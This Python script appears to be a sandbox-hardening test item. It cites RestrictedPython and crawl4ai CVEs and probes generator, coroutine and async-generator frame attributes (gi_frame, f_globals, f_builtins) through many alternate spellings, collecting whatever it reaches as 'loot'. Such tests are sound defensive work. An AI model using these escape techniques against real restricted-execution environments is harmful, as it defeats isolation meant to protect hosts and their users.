"""B1: gi_frame, gi_code, gi_yieldfrom and their relatives, by every spelling (RestrictedPython CVE-2023-37271, crawl4ai CVE-2026-53753)."""

import inspect, operator

loot = []
NAMES = [
    "gi_frame",
    "gi_code",
    "gi_yieldfrom",
    "cr_frame",
    "cr_code",
    "cr_await",
    "cr_origin",
    "ag_frame",
    "ag_code",
    "ag_await",
    "f_back",
    "f_globals",
    "f_locals",
    "f_builtins",
    "f_code",
    "gi_state",
    "gi_suspended",
    "__self__",
    "__class__",
]


def collect(action):
    try:
        loot.append(action())
    except BaseException:
        pass


def generator():
    yield from inner()


def inner():
    for name in NAMES:
        read_all(running[0], name)
    yield 1


async def coroutine():
    await Awaitable()


class Awaitable:
    def __await__(self):
        for name in NAMES:
            read_all(running[0], name)
        yield 1


async def async_generator():
    for name in NAMES:
        read_all(running[0], name)
    yield 1


def read_all(value, name):
    collect(lambda: getattr(value, name))
    collect(lambda: eval("v." + name, {"v": value}))
    collect(lambda: object.__getattribute__(value, name))
    collect(lambda: type(value).__getattribute__(value, name))
    collect(lambda: getattr(type(value), name))
    collect(lambda: getattr(type(value), name).__get__(value))
    collect(lambda: vars(type(value))[name].__get__(value))
    collect(lambda: operator.attrgetter(name)(value))
    collect(lambda: operator.attrgetter("__class__." + name)(value))
    collect(lambda: super(type(value), value).__getattribute__(name))
    collect(lambda: ("{0." + name + ".f_back.f_globals}").format(value))
    collect(lambda: "{0}".format(getattr(value, name)))
    collect(lambda: dict(inspect.getmembers(value))[name])
    collect(lambda: (lambda n=name: getattr(value, n))())
    match value:
        case object(gi_frame=found) | object(cr_frame=found) | object(ag_frame=found):
            loot.append(found)
        case object(gi_code=found) | object(cr_code=found) | object(ag_code=found):
            loot.append(found)


running = [None]
running[0] = generator()
next(running[0])
running[0] = (read_all(running[0], name) for name in NAMES)
list(running[0])
running[0] = coroutine()
try:
    running[0].send(None)
except BaseException:
    pass
waiting = running[0].__await__() if False else None
running[0] = async_generator()
step = running[0].asend(None)
try:
    step.send(None)
except BaseException:
    pass
for value in (
    step,
    running[0],
    running[0].aclose(),
    running[0].athrow(ValueError),
    coroutine().__await__(),
    anext(async_generator(), None),
):
    for name in NAMES + ["throw", "send", "close", "__await__", "__next__"]:
        read_all(value, name)
    try:
        value.close()
    except BaseException:
        pass
try:
    loot += [running[0].gi_frame]
except BaseException:
    pass
loot[:] = [each for each in loot if type(each) is not str]
